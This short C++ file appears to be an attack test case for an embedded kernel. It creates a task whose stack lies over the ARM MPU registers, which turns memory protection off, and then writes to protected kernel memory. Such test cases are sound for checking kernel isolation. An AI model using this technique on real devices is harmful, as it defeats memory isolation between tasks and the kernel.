// SPDX-License-Identifier: MIT
// create() paints a stack that lies over the registers of the MPU, which is off then: the kernel's
// memory can be written.
// Issue: Kernel.
#include "attack.hpp"

void attack() {
  const kernel::task_description over_mpu{3,   be_idle, nullptr, reinterpret_cast<void*>(0xE000ED80u),
                                          128, "child", false};
  kernel::create(over_mpu);
  secret[0] = 0xbad;
}

int main() {
  return run_attack();
}
